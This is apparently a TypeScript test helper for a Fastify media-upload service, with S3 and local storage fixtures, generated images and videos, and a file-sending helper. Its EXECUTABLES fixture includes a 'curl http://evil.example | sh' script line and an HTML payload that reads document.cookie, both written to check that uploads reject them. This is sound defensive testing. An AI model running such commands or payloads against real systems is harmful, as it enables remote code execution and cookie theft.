import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CreateBucketCommand, ListObjectsV2Command, S3Client } from '@aws-sdk/client-s3';
import type { FastifyInstance } from 'fastify';
import S3rver from 's3rver';
import sharp from 'sharp';
import type { StorageTarget } from '../../src/server/lib/storage-url';
import { multipart } from './org-helper';

/** A storage for the upload tests: its STORAGE_URL target, how many objects it holds, teardown. */
export interface TestStorage {
  target: StorageTarget;
  dataDir: string;
  count(): Promise<number>;
  stop(): Promise<void>;
}

export function localTestStorage(): TestStorage {
  const dataDir = mkdtempSync(join(tmpdir(), 'uploads-local-'));
  const dir = join(dataDir, 'uploads');
  return {
    target: { kind: 'local' },
    dataDir,
    count: async () => readdirSync(dir, { withFileTypes: true }).filter((e) => e.isFile()).length,
    stop: async () => rmSync(dataDir, { recursive: true, force: true }),
  };
}

/** A real S3-compatible server (s3rver) on a free port, with a temp directory and our bucket. */
export async function s3TestStorage(): Promise<TestStorage> {
  const dataDir = mkdtempSync(join(tmpdir(), 'uploads-s3-'));
  const server = new S3rver({ address: '127.0.0.1', port: 0, silent: true, directory: join(dataDir, 's3') });
  const { port } = await server.run();
  const credentials = { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' };
  const target: StorageTarget = {
    kind: 's3',
    endpoint: `http://127.0.0.1:${port}`,
    region: 'us-east-1',
    bucket: 'console-uploads',
    prefix: 'up/',
    forcePathStyle: true,
    credentials,
  };
  const client = new S3Client({
    endpoint: target.endpoint,
    region: target.region,
    forcePathStyle: true,
    credentials,
  });
  await client.send(new CreateBucketCommand({ Bucket: target.bucket }));
  return {
    target,
    dataDir,
    count: async () => (await client.send(new ListObjectsV2Command({ Bucket: target.bucket }))).KeyCount ?? 0,
    stop: async () => {
      client.destroy();
      await server.close();
      rmSync(dataDir, { recursive: true, force: true });
    },
  };
}

/** A small picture with a pattern, so re-encoding bugs (a blank or shifted image) show. */
export async function picture(format: 'png' | 'jpeg' | 'webp' | 'gif', width = 48, height = 32): Promise<Buffer> {
  const raw = Buffer.alloc(width * height * 3);
  for (let i = 0; i < width * height; i++) raw.set([(i * 7) % 256, (i * 13) % 256, i % 2 ? 255 : 0], i * 3);
  return sharp(raw, { raw: { width, height, channels: 3 } })
    .toFormat(format)
    .toBuffer();
}

/** A two-frame animated GIF (48 x 32 each), whose frames re-encoding must keep. */
export async function animatedGif(): Promise<Buffer> {
  const frames = Buffer.concat([
    await sharp(await picture('png'))
      .raw()
      .toBuffer(),
    Buffer.alloc(48 * 32 * 3, 200),
  ]);
  return sharp(frames, { raw: { width: 48, height: 64, channels: 3, pageHeight: 32 } })
    .gif({ delay: [100, 200] })
    .toBuffer();
}

/** A JPEG carrying EXIF with a GPS position and a camera maker. */
export async function jpegWithGps(): Promise<Buffer> {
  const exif = {
    IFD0: { Make: 'SpyCam', Model: 'Tracker' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '22/1 32/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '114/1 3/1 0/1' },
  };
  return sharp(await picture('jpeg'))
    .withExif(exif)
    .jpeg()
    .toBuffer();
}

const ftyp = (brand: string) =>
  Buffer.concat([
    Buffer.from([0, 0, 0, 0x14]),
    Buffer.from(`ftyp${brand}`),
    Buffer.from([0, 0, 2, 0]),
    Buffer.from(brand),
  ]);
const ebml = Buffer.from([0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x84, ...Buffer.from('webm')]);

/** Container headers a sniffer recognises, followed by `size` bytes of filler. */
export function video(kind: 'mp4' | 'webm' | 'mov', size = 4096): Buffer {
  const head =
    kind === 'webm'
      ? Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | ebml.length]), ebml])
      : ftyp(kind === 'mp4' ? 'isom' : 'qt  ');
  const body = Buffer.alloc(size - head.length);
  for (let i = 0; i < body.length; i++) body[i] = (i * 31) % 251;
  return Buffer.concat([head, body]);
}

/** Executables and scripts that must never pass for media, whatever their name says. */
export const EXECUTABLES: [string, Buffer][] = [
  ['ELF', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(512, 0)])],
  [
    'PE',
    Buffer.concat([
      Buffer.from('MZ'),
      Buffer.alloc(58, 0),
      Buffer.from([0x80, 0, 0, 0]),
      Buffer.alloc(64, 0),
      Buffer.from('PE\0\0'),
      Buffer.alloc(256, 0),
    ]),
  ],
  ['script', Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n')],
  ['html', Buffer.from('<html><script>alert(document.cookie)</script></html>')],
];

export interface UploadAnswer<T = unknown> {
  code: number;
  key?: string;
  msg: string;
  data: T;
}

export async function sendFile<T = unknown>(
  app: FastifyInstance,
  url: string,
  file: Buffer,
  filename: string,
  type: string,
  token?: string,
  field = 'file',
) {
  const body = multipart(file, filename, field, type);
  const res = await app.inject({
    method: 'POST',
    url,
    payload: body.payload,
    headers: { ...body.headers, ...(token ? { authorization: token } : {}) },
  });
  return res.json() as UploadAnswer<T>;
}
